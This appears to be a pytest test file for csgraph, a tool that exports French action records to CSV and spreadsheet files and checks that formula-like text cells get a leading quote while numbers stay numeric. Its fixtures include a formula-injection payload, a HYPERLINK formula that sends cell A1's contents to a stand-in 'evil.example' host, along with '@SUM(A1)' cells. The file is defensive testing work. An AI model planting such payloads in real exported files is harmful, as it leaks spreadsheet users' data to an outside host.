"""Every CSV csgraph writes keeps spreadsheets from running fiche text as formulas; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest
import rdflib
from rdflib.namespace import DCTERMS, RDF, RDFS, XSD
from starlette.testclient import TestClient
from typer.testing import CliRunner

from csgraph.build import BuildReport, build
from csgraph.cli import app
from csgraph.export import export
from csgraph.spreadsheet import machine_cell, spreadsheet_csv
from csgraph.vocabulary import CSG as CSG_NAMESPACE
from csgraph.vocabulary import PREFIXES

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'
SCHEMA = rdflib.Namespace(PREFIXES["schema"])
CSG = rdflib.Namespace(CSG_NAMESPACE)


@pytest.fixture(scope="module")
def hostile_build(tmp_path_factory: pytest.TempPathFactory) -> BuildReport:
    """One fiche whose title is a formula and whose contributions start with `-` and `@`."""
    folder = tmp_path_factory.mktemp("formula-fiches")
    (folder / "fiches.txt").write_text(
        f'Actions "{HYPERLINK}"\n'
        "DESCRIPTION DE L'ACTION\n"
        "- Statut de l'action\n- En cours\n"
        "- Résumé\n+33 3 21 00 00 00\n"
        "- Structure organisatrice\n- @SUM(A1) - Pas-de-Calais\n"
        "- Ressources financières mobilisées pour cette action\n"
        "cout total : 1 500,50 €\n- 542 euros: participation des usagers\n",
        encoding="utf-8",
    )
    return build([folder], tmp_path_factory.mktemp("formula-build"))


def machine_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def spreadsheet_rows(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")
    assert "\r\n" in text and "\n" not in text.replace("\r\n", "")
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";"))


def test_machine_cells_neutralise_text_never_numbers() -> None:
    assert machine_cell(HYPERLINK, numeric=False) == "'" + HYPERLINK
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert machine_cell(f"{start}1+1", numeric=False) == f"'{start}1+1"
    assert machine_cell("-3", numeric=True) == "-3"
    assert machine_cell("-1.5E2", numeric=True) == "-1.5E2"
    assert machine_cell("-3", numeric=False) == "'-3"  # a title `-3` is text, shown as written
    assert machine_cell("-2+3", numeric=True) == "'-2+3"  # an ill-typed number is no number
    assert machine_cell("-INF", numeric=True) == "'-INF"
    assert machine_cell("Atelier = jeux", numeric=False) == "Atelier = jeux"


def test_spreadsheet_cells_that_would_run_are_text() -> None:
    body = spreadsheet_csv(
        ["=name", "value"],
        [
            ['=HYPERLINK("http://evil")', Decimal("-5.5")],
            ["+1", -2],
            ["-2+3", None],
            ["@SUM(A1)", Decimal("1E+3")],
            ["\tTab", "a;b"],
            ["\rReturn", "plain"],
        ],
    )
    assert body.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(body.removeprefix("\ufeff"), newline=""), delimiter=";"))
    assert rows == [
        ["'=name", "value"],
        ['\'=HYPERLINK("http://evil")', "-5,5"],
        ["'+1", "-2"],
        ["'-2+3", ""],
        ["'@SUM(A1)", "1000"],
        ["'\tTab", "a;b"],
        ["'\rReturn", "plain"],
    ]


def test_query_csv_neutralises_a_formula_title(hostile_build: BuildReport) -> None:
    arguments = [
        "query",
        "actions-in-departement",
        "-p",
        "departement=62",
        "--graph",
        str(hostile_build.graph),
    ]
    machine = CliRunner().invoke(app, [*arguments, "--format", "csv"])
    assert machine.exit_code == 0, machine.output
    (row,) = machine_rows(machine.stdout_bytes.decode())
    assert row["action"] == "'" + HYPERLINK
    people = CliRunner().invoke(app, [*arguments, "--format", "spreadsheet"])
    assert people.exit_code == 0, people.output
    (row,) = spreadsheet_rows(people.stdout_bytes.decode())
    assert (row["action"], row["structure"]) == ("'" + HYPERLINK, "'@SUM(A1)")


QUERY = """SELECT ?text ?count ?amount WHERE {
  VALUES (?text ?count ?amount) {
    ("-3" -3 -2.5)
    ("=1+1" "-=1"^^<http://www.w3.org/2001/XMLSchema#integer> 1500.25)
  }
} ORDER BY ?count
"""


def test_query_numbers_stay_numbers_minus_sign_included(sample_graph: Path, tmp_path: Path) -> None:
    """A number is told apart by its datatype: -3 stays -3, the text "-3" gets its quote."""
    question = tmp_path / "numbers.rq"
    question.write_text(QUERY, encoding="utf-8")
    arguments = ["query", str(question), "--graph", str(sample_graph), "--format"]
    machine = CliRunner().invoke(app, [*arguments, "csv"])
    assert machine.exit_code == 0, machine.output
    assert machine_rows(machine.stdout_bytes.decode()) == [
        {"text": "'-3", "count": "-3", "amount": "-2.5"},
        {"text": "'=1+1", "count": "'-=1", "amount": "1500.25"},
    ]
    people = CliRunner().invoke(app, [*arguments, "spreadsheet"])
    assert people.exit_code == 0, people.output
    assert spreadsheet_rows(people.stdout_bytes.decode()) == [
        {"text": "'-3", "count": "-3", "amount": "-2,5"},
        {"text": "'=1+1", "count": "'-=1", "amount": "1500,25"},
    ]
    exact = CliRunner().invoke(app, [*arguments, "tsv"])
    assert '"=1+1"\t"-=1"^^<http://www.w3.org/2001/XMLSchema#integer>' in exact.stdout


def test_export_tables_neutralise_formulas_in_both_forms(hostile_build: BuildReport, tmp_path: Path) -> None:
    report = export(hostile_build.graph, tmp_path, ["csv", "spreadsheet"])
    for name, rows in (("actions.csv", machine_rows), ("actions-spreadsheet.csv", spreadsheet_rows)):
        (action,) = rows((tmp_path / name).read_bytes().decode())
        assert action["title"] == "'" + HYPERLINK
        assert action["structure"] == "'@SUM(A1)"
        assert action["summary"] == "'+33 3 21 00 00 00"
    (action,) = machine_rows((tmp_path / "actions.csv").read_bytes().decode())
    assert action["budget_total"] == "1500.5"
    (action,) = spreadsheet_rows((tmp_path / "actions-spreadsheet.csv").read_bytes().decode())
    assert action["budget_total"] == "1500,5"
    (funding,) = machine_rows((tmp_path / "fundings.csv").read_bytes().decode())
    assert (funding["amount"], funding["source_text"]) == ("542", "'- 542 euros: participation des usagers")
    assert report.rows["fundings-spreadsheet.csv"] == 1
    graph = rdflib.Graph().parse(hostile_build.graph)
    assert rdflib.Literal(HYPERLINK, lang="fr") in set(graph.objects(None, DCTERMS.title))  # RDF: exact


def test_export_keeps_a_negative_amount_a_number(tmp_path: Path) -> None:
    graph = rdflib.Graph()
    action = rdflib.URIRef("https://w3id.org/csgraph/action/x")
    grant = rdflib.URIRef("https://w3id.org/csgraph/funding/x-1")
    graph.add((action, RDF.type, CSG.Action))
    graph.add((action, DCTERMS.title, rdflib.Literal("-3", lang="fr")))
    graph.add((grant, RDF.type, SCHEMA.MonetaryGrant))
    graph.add((grant, SCHEMA.fundedItem, action))
    graph.add((grant, RDFS.label, rdflib.Literal("-Caf")))
    graph.add((grant, SCHEMA.amount, rdflib.Literal("-3.5", datatype=XSD.decimal)))
    (tmp_path / "in").mkdir()
    graph.serialize(tmp_path / "in" / "graph.ttl", format="turtle")
    export(tmp_path / "in" / "graph.ttl", tmp_path / "out", ["csv", "spreadsheet"])
    (funding,) = machine_rows((tmp_path / "out" / "fundings.csv").read_bytes().decode())
    assert (funding["amount"], funding["funder"]) == ("-3.5", "'-Caf")
    (funding,) = spreadsheet_rows((tmp_path / "out" / "fundings-spreadsheet.csv").read_bytes().decode())
    assert (funding["amount"], funding["funder"]) == ("-3,5", "'-Caf")
    (action,) = machine_rows((tmp_path / "out" / "actions.csv").read_bytes().decode())
    assert action["title"] == "'-3"


def test_the_sparql_endpoint_csv_neutralises_formulas(site_client: TestClient) -> None:
    query = 'SELECT ?text ?count WHERE { VALUES (?text ?count) { ("=1+1" -3) } }'
    response = site_client.get("/sparql", params={"query": query}, headers={"Accept": "text/csv"})
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.text == "text,count\r\n'=1+1,-3\r\n"
